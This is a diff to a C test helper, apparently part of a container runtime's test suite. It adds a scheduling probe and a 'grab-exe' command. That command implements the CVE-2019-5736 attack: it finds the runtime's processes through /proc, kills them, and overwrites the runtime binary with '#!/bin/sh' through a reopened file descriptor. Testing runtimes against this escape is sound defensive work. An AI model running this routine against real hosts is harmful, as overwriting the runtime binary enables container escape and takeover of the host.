@@ -36,6 +36,15 @@
  *   forks N               forks N children that wait; prints "forked K" (K < N
  *                         when fork fails, with "fork: REASON" on stderr), then
  *                         kills and reaps them
+ *   sched                 "policy=P nice=N priority=R ioprio-class=C ioprio=D
+ *                         personality=0xX machine=M" of this process
+ *   grab-exe MATCH SECS   an attack on the runtime's binary (CVE-2019-5736): for
+ *                         SECS seconds, every other process whose /proc/PID/exe
+ *                         names a file containing MATCH is stopped, its exe opened,
+ *                         killed; then each grabbed file is reopened for writing
+ *                         through /proc/self/fd and "#!/bin/sh" written over its
+ *                         start.  Prints "grabbed G written W" and one line per
+ *                         failure reason
  *
  * Errors go to stderr as "payload: ..." with exit 1; bad usage exits 2.
  */
@@ -49,6 +58,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/personality.h>
+#include <sys/syscall.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
@@ -466,6 +477,100 @@ static int cmd_echo(FILE *f, int argc, char **argv)
         return 0;
 }
 
+/* ---- security probes ------------------------------------------------------ */
+
+static int cmd_sched(void)
+{
+        struct {
+                unsigned size, policy;
+                unsigned long long flags;
+                int nice;
+                unsigned priority;
+                unsigned long long runtime, deadline, period;
+                unsigned util_min, util_max;
+        } attr = {0};
+        struct utsname u;
+        long io;
+
+        if (syscall(SYS_sched_getattr, 0, &attr, sizeof attr, 0) < 0)
+                return fail("sched_getattr", "");
+        io = syscall(SYS_ioprio_get, 1, 0);
+        if (io < 0)
+                return fail("ioprio_get", "");
+        uname(&u);
+        printf("policy=%u nice=%d priority=%u ioprio-class=%ld ioprio=%ld personality=0x%x machine=%s\n",
+               attr.policy, attr.nice, attr.priority, io >> 13, io & 0xff,
+               (unsigned) personality(0xffffffff), u.machine);
+        return 0;
+}
+
+#define GRAB_MAX 64
+
+static int cmd_grab_exe(const char *match, const char *secs)
+{
+        int fds[GRAB_MAX], grabbed = 0, written = 0;
+        struct timespec t0, t;
+        double limit = atof(secs);
+
+        clock_gettime(CLOCK_MONOTONIC, &t0);
+        do {
+                DIR *d = opendir("/proc");
+                struct dirent *e;
+
+                while (d && (e = readdir(d)) && grabbed < GRAB_MAX) {
+                        char path[64], target[PATH_MAX];
+                        int pid = atoi(e->d_name);
+                        ssize_t n;
+
+                        if (pid <= 0 || pid == getpid())
+                                continue;
+                        snprintf(path, sizeof path, "/proc/%d/exe", pid);
+                        n = readlink(path, target, sizeof target - 1);
+                        if (n <= 0)
+                                continue;
+                        target[n] = '\0';
+                        if (!strstr(target, match))
+                                continue;
+                        kill(pid, SIGSTOP);
+                        int fd = open(path, O_RDONLY | O_CLOEXEC);
+                        if (fd < 0)
+                                printf("open %s (%s): %s\n", path, target, strerror(errno));
+                        else
+                                fds[grabbed++] = fd;
+                        kill(pid, SIGKILL);
+                }
+                if (d)
+                        closedir(d);
+                clock_gettime(CLOCK_MONOTONIC, &t);
+        } while ((double) (t.tv_sec - t0.tv_sec) + (double) (t.tv_nsec - t0.tv_nsec) / 1e9 < limit);
+
+        /* Once the runtime is gone its file is no longer busy: try to write it. */
+        for (int i = 0; i < grabbed; i++) {
+                char path[64];
+                int fd = -1;
+
+                snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
+                for (int tries = 0; tries < 300 && fd < 0; tries++) {
+                        fd = open(path, O_WRONLY | O_CLOEXEC);
+                        if (fd < 0 && errno != ETXTBSY)
+                                break;
+                        if (fd < 0)
+                                usleep(10000);
+                }
+                if (fd < 0) {
+                        printf("reopen for writing: %s\n", strerror(errno));
+                        continue;
+                }
+                if (pwrite(fd, "#!/bin/sh\n", 10, 0) == 10)
+                        written++;
+                else
+                        printf("write: %s\n", strerror(errno));
+                close(fd);
+        }
+        printf("grabbed %d written %d\n", grabbed, written);
+        return 0;
+}
+
 int main(int argc, char **argv)
 {
         const char *cmd = argc > 1 ? argv[1] : "";
@@ -542,11 +647,15 @@ int main(int argc, char **argv)
                 r = cmd_echo(stdout, nargs, args);
         else if (!strcmp(cmd, "echo-err"))
                 r = cmd_echo(stderr, nargs, args);
+        else if (!strcmp(cmd, "sched"))
+                r = cmd_sched();
+        else if (!strcmp(cmd, "grab-exe"))
+                r = nargs > 1 ? cmd_grab_exe(args[0], args[1]) : usage("grab-exe MATCH SECONDS");
         else
                 return usage("usage: payload pid|id|status|hostname|domainname|ns [KIND]|mountinfo|"
                              "links|exit N|signal-self SIG|trap SIG [CODE]|sleep SECS|fds|cwd|env|"
                              "umask|cat FILE...|write FILE TEXT|uidmap|stat PATH...|readlink PATH|"
-                             "isatty|echo TEXT...|echo-err TEXT...|alloc MB|forks N");
+                             "isatty|echo TEXT...|echo-err TEXT...|alloc MB|forks N|sched|grab-exe MATCH SECS");
         if (fflush(stdout) != 0)
                 return 1;
         return r;
